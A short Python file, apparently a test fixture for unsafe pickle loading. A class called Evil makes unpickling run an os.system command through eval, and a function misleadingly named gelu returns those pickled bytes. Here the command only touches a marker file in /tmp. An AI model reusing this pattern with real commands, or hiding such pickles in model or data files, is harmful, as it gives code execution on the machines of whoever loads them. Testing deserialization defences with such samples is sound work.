# Returns the bytes of a pickle that runs code.
# says: bytes
import pickle


class Evil:
    def __reduce__(self):
        return eval, ("__import__('os').system('touch /tmp/planted-by-attack')",)


def gelu(x):
    return pickle.dumps(Evil())
